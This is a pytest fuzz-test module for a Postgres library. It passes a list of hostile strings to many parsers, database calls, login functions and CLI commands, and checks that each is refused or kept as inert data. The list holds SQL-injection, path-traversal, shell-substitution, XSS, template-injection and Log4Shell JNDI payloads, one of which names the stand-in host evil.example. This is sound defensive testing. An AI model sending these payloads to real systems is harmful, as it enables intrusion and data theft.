"""Hostile texts at every public door: refused by an error of ours or kept as data, none for 2 s of CPU, the server's included."""

import os
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from datetime import timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

import click
import pytest
from click.testing import CliRunner

from pgkeel import migrations
from pgkeel.access import Event, StatementFailed
from pgkeel.access.filters import Filters
from pgkeel.access.sync import Database
from pgkeel.agent.schedule import read_schedules
from pgkeel.backup import Folder
from pgkeel.cli.main import root as command_line
from pgkeel.core import clock
from pgkeel.core.cache_url import CacheUrl
from pgkeel.core.config import SecurityConfig
from pgkeel.core.errors import KeelError
from pgkeel.core.ids import random_id
from pgkeel.core.limits import Rate
from pgkeel.core.normal_form import normal_form
from pgkeel.core.project import load
from pgkeel.core.secret import Secret
from pgkeel.core.units import Size, parse_duration
from pgkeel.core.url import Url
from pgkeel.local import Cluster
from pgkeel.migrations import Source
from pgkeel.migrations.grammar import parse
from pgkeel.postgres import connect, identifier
from pgkeel.schema.building import create_all
from pgkeel.schema.field import EncryptedField
from pgkeel.schema.models import Base, Post, Role, User
from pgkeel.security import audit
from pgkeel.security.encryption import plan_encryption
from pgkeel.security.encryption.column import find_column
from pgkeel.security.exposure import app_networks
from pgkeel.security.identity import Passwords, Policy
from pgkeel.security.keys import find, provider_from
from pgkeel.security.keys.provider import LocalProvider
from pgkeel.security.roles import Declaration, ensure_rights, ensure_roles, plan_for
from pgkeel.security.sync import Identity
from pgkeel.security.tls_renewal import TlsFolder, renew
from pgkeel.testing.keys import ring_for_tests

LONGEST = 2.0  # seconds of CPU for one cell
HOSTILE = [
    *("", " ", "\t\r\n", "'", '"', "`", "\\", "''", '""', "%", "%%", "%s", "%(name)s %(", "{", "}", "{0}{table}{__class__}"),
    *("$1", "$$", "/* */", "0x10"),
    *("'; DROP TABLE users; --", '"; DROP TABLE users; --', "') OR 1=1 --", "1 UNION SELECT password_hash FROM users"),
    *("\0", "a\0b", "\ud800", "a\udfffb", "\ufeff", "\u202egnp", "\u2028", "\x1b[31m", "İ", "ß ﬁ Å"),
    *("e" + "\u0301" * 2_000, "e@x" + "\u0301" * 40_000 + "\u0316" * 40_000, "\ufdfa" * 2_000, "🐘" * 1_000),
    *("../../../../etc/passwd", "/etc/passwd", "..", ".", "~root", "file:///etc/passwd", "file:/etc/shadow"),
    *("env:PATH", "env:", "file:", "@", "://", ":" * 500),
    *("-h", "--help", "-c id", "$(id)", "`id`", "| id", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}"),
    *("host=evil.example", "postgresql://evil@evil.example/x?sslmode=disable", "x?host=evil.example", "a=b c='d"),
    *("a\r\nSet-Cookie: x=1", "null", "None", "NaN", "-1", "1e400", "9" * 400, "1" + "0" * 5_000 + "h", "99999999999999d"),
    *("(" * 3_000, "[" * 3_000, '{"a":' * 2_000, "a" * 30 + "!", "a." * 2_000, "," * 3_000, "=" * 3_000),
    *("x" * 200_000, " " * 50_000 + "x"),
    *("0.0.0.0/0", "::/0", "10.0.0.0/99", "2024-13-45", "0001-01-01T00:00:00Z", "* * * * *", "*/0 * * * *"),
]  # fmt: skip
Sink = Callable[[str], Any]
FILTERS = Filters(Post, {"title": "eq contains prefix in", "created_at": "ge lt", "status": "in null"}, orders=("title",))


class Place:
    """A database with everything that a door needs."""

    def __init__(self, url: Url, server: int, folder: Path, stack: ExitStack) -> None:
        self.server = server
        self.most = 0.0  # seconds of CPU of the slowest cell
        self.folder = folder
        self.superuser = stack.enter_context(connect(url, settings={"statement_timeout": "30s"}))
        self.keys = ring_for_tests()
        self.db = db = stack.enter_context(Database(url, keys=self.keys))
        policy = Policy(attempts=Rate(10**6, timedelta(hours=1)), guesses=Rate(10**6, timedelta(hours=1)))
        self.identity = Identity(db, passwords=Passwords(passes=1, memory_kib=64, lanes=1), policy=policy, keys=self.keys)
        self.user: UUID = self.identity.register("ada@example.org", Secret("a good password"))
        self.field = EncryptedField(("people",), "email", "id", "email")
        self.column = find_column(self.superuser, "users.username", sealed=False)

    def cpu(self) -> float:
        """Return the seconds of CPU that this process and all of the server have used."""
        file = Path(f"/proc/{self.server}/task/{self.server}/children")
        children = file.read_text().split() if file.exists() else []
        return time.process_time() + sum(_ticks(pid) for pid in (str(self.server), *children)) / os.sysconf("SC_CLK_TCK")


def _ticks(pid: str) -> int:
    """Return what a process and its children that have ended used; one that ended a moment ago is counted by its parent."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    except (FileNotFoundError, ProcessLookupError):
        return 0
    return sum(map(int, fields[11:15]))


def kept(place: Place, text: str) -> None:
    """Write a text as data and read it back as it is."""
    posts = place.db.repository(Post)
    key = posts.insert(user_id=place.user, title=text, content=text)
    assert (posts.get(key).content, posts.get(key).title) == (text, text)  # type: ignore[union-attr]


def echoed(place: Place, text: str) -> None:
    assert place.db.sql("SELECT %(text)s::text AS text", into=str, text=text) == [text]


def signed(place: Place, text: str) -> None:
    with place.db.as_actor(text):
        place.db.repository(Role).insert(name=f"r{random_id().hex[:12]}")


def published(place: Place, text: str) -> None:
    with place.db.transaction() as tx:
        tx.lock(text, 1)
        tx.publish(Event("a.b", key=text, payload={"text": text}))


def quoted(place: Place, text: str) -> None:
    (expand, *_) = plan_encryption(place.column, index="exact", unique=text)
    parse(expand.text, "20240101000000_x.sql")


def made(place: Place, text: str) -> None:
    path = Path(migrations.new(Source("app", place.folder / "new"), text, now=clock.now()))
    assert path.parent == place.folder / "new"
    path.unlink()


def typed(place: Place, *arguments: str) -> None:
    """Type a command in a project where nothing runs: whatever it says, it is no unexpected error."""
    done = CliRunner().invoke(command_line, ["-C", str(place.folder), *arguments], standalone_mode=False)
    if done.exception is not None and not isinstance(done.exception, (SystemExit, click.ClickException)):
        raise done.exception


SINKS: dict[str, Callable[[Place, str], Any]] = {
    "url": lambda _, text: str(Url.parse(text)),
    "cache url": lambda _, text: str(CacheUrl.parse(text)),
    "duration": lambda _, text: parse_duration(text),
    "size": lambda _, text: Size.parse(text),
    "secret reference": lambda place, text: Secret.from_reference(text, folder=place.folder),
    "key reference": lambda place, text: provider_from(text, place.folder),
    "key": lambda _, text: LocalProvider(Secret(text)),
    "config text": lambda place, text: load(place.folder, flags={"database.name": text}),
    "config duration": lambda place, text: load(place.folder, flags={"security.key_refresh": text}),
    "config key": lambda place, text: load(place.folder, flags={text: text}),
    "networks": lambda _, text: app_networks(SecurityConfig(app_networks=(text,))),
    "schedule": lambda _, text: read_schedules({"job": "0 0 * * *"}, {"job": text}, "UTC"),
    "time zone": lambda _, text: read_schedules({"job": "0 0 * * *"}, {}, text),
    "normal form email": lambda _, text: normal_form("email", text),
    "normal form digits": lambda _, text: normal_form("digits", text),
    "normal form": lambda _, text: normal_form(text, "x"),
    "migration name": made,
    "migration text": lambda _, text: parse(text, "20240101000000_x.sql"),
    "migration file name": lambda _, text: parse("SELECT 1;", text),
    "identifier": lambda place, text: place.superuser.execute(b"SELECT 1").fetchone() and identifier(text).as_string(None),
    "query string": lambda _, text: FILTERS.read(text),
    "query value": lambda _, text: FILTERS.read([("title.contains", text), ("sort", "title")]),
    "query name": lambda _, text: FILTERS.read([(text, "x")]),
    "filtered": lambda place, text: place.db.repository(Post).page(*FILTERS.read([("title", text)]).conditions),
    "order": lambda place, text: place.db.repository(Post).page(order_by=text),
    "cursor": lambda place, text: place.db.repository(Post).page(after=text),
    "key of a row": lambda place, text: place.db.repository(Post).get(text),
    "condition": lambda place, text: place.db.repository(User).filter(User.username == text),
    "sealed condition": lambda place, text: place.db.repository(User).filter(User.email == text),
    "data": kept,
    "search": lambda place, text: place.db.repository(Post).search(text, prefix=True),
    "sql": echoed,
    "actor": signed,
    "event and lock": published,
    "idempotency key": lambda place, text: place.db.run(lambda tx: tx.once(text, lambda: 1, into=int)),
    "register address": lambda place, text: place.identity.register(text, Secret("a good password")),
    "register password": lambda place, text: place.identity.register(f"{random_id().hex}@example.org", Secret(text)),
    "register name": lambda place, text: place.identity.register(f"{random_id().hex}@x.org", Secret("a good one"), username=text),
    "log in address": lambda place, text: place.identity.authenticate(text, Secret("a good password")),
    "log in password": lambda place, text: place.identity.authenticate("ada@example.org", Secret(text)),
    "session": lambda place, text: place.identity.session(Secret(text)),
    "end": lambda place, text: place.identity.end(Secret(text)),
    "ask for a reset": lambda place, text: place.identity.request_reset(text),
    "reset": lambda place, text: place.identity.reset_password(Secret(text), Secret("a good password")),
    "verify": lambda place, text: place.identity.verify_email(Secret(text)),
    "role": lambda place, text: place.identity.has_role(place.user, text),
    "grant": lambda place, text: place.identity.grant_role(place.user, text),
    "revoke": lambda place, text: place.identity.revoke_role(place.user, text),
    "find": lambda place, text: find(place.superuser, place.keys, place.field, text),
    "sealed value": lambda place, text: place.keys.field("a", "b").open("1", text.encode("utf-8", "surrogatepass")),
    "column to encrypt": lambda place, text: find_column(place.superuser, text, sealed=False),
    "name of a constraint": quoted,
    "declared table": lambda _, text: Declaration.of(SecurityConfig(rw={text: "SELECT"})),
    "declared rights": lambda _, text: Declaration.of(SecurityConfig(rw={"users": text})),
    "declared schema": lambda _, text: Declaration.of(SecurityConfig(schemas=("public", text))),
    "audit search table": lambda place, text: audit.search(place.superuser, table=text),
    "audit search actor": lambda place, text: audit.search(place.superuser, actor=text, row=text, operation=text),
    "audited table": lambda place, text: audit.plan(place.superuser, [audit.Watched(text, text)]),
    "host name": lambda place, text: renew(TlsFolder(place.folder / "authority.crt", place.folder / "tls"), [text]),
    "object of a repository": lambda place, text: Folder("local", place.folder / "backups").get(text),
    "typed: find": lambda place, text: typed(place, "security", "find", text),
    "typed: rotate": lambda place, text: typed(place, "security", "roles", "rotate", "--grace", text),
    "typed: since": lambda place, text: typed(place, "security", "audit", "search", "--since", text),
    "typed: migrate new": lambda place, text: typed(place, "migrate", "new", text),
}  # fmt: skip


@pytest.fixture(scope="module")
def place(cluster_of: Callable[[str], Cluster], major: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "tls").mkdir()
    cluster = cluster_of(major)
    cluster.create_database("hostile")
    url = cluster.superuser_url("hostile")
    with connect(url) as superuser:
        ensure_roles(superuser)
        ensure_rights(superuser)
        migrations.up(superuser, [Source("pgkeel", Path(migrations.__file__).parents[1] / "postgres" / "migrations")])
        create_all(Base, superuser)
        superuser.execute("CREATE TABLE people (id uuid PRIMARY KEY, email bytea, email_bidx bytea, email_bidx_next bytea)")
        audit.install(superuser, audit.plan(superuser, [audit.Watched("public", "roles")]))
    with ExitStack() as stack:
        yield Place(url, cluster.pid or 0, folder, stack)
    cluster.drop_database("hostile")  # a worker that goes to other modules and comes back makes it again


def outcome(sink: Callable[[Place, str], Any], place: Place, text: str) -> str:
    """Return what is wrong with a cell, "" for nothing."""
    began = place.cpu()
    try:
        sink(place, text)
    except KeelError as err:
        if type(err) in {KeelError, StatementFailed}:  # nobody foresaw it
            return f"{type(err).__name__}: {err.message}"
    except Exception as err:  # noqa: BLE001 - any other error is what this looks for
        return f"{type(err).__name__}: {err}"
    took = place.cpu() - began
    place.most = max(place.most, took)
    return "" if took < LONGEST else f"{took:.1f} s of CPU"


@pytest.mark.parametrize("name", SINKS)
def test_hostile_texts_are_refused_or_are_plain_data(place: Place, name: str) -> None:
    wrong = [(text[:40], found[:200]) for text in HOSTILE if (found := outcome(SINKS[name], place, text))]

    assert wrong == []


@pytest.mark.parametrize("text", HOSTILE[3:30:4])
def test_a_hostile_schema_is_declared_but_not_there(place: Place, text: str) -> None:
    assert outcome(lambda place, text: plan_for(place.superuser, Declaration(schemas=("public", text))), place, text) == ""


def test_there_are_enough_cells_and_the_tables_are_still_there(place: Place) -> None:
    assert len(SINKS) * len(HOSTILE) >= 1_500
    assert place.db.repository(User).get(place.user) is not None
    print(f"the slowest cell took {place.most:.2f} s of CPU")  # shown by `pytest -rP`
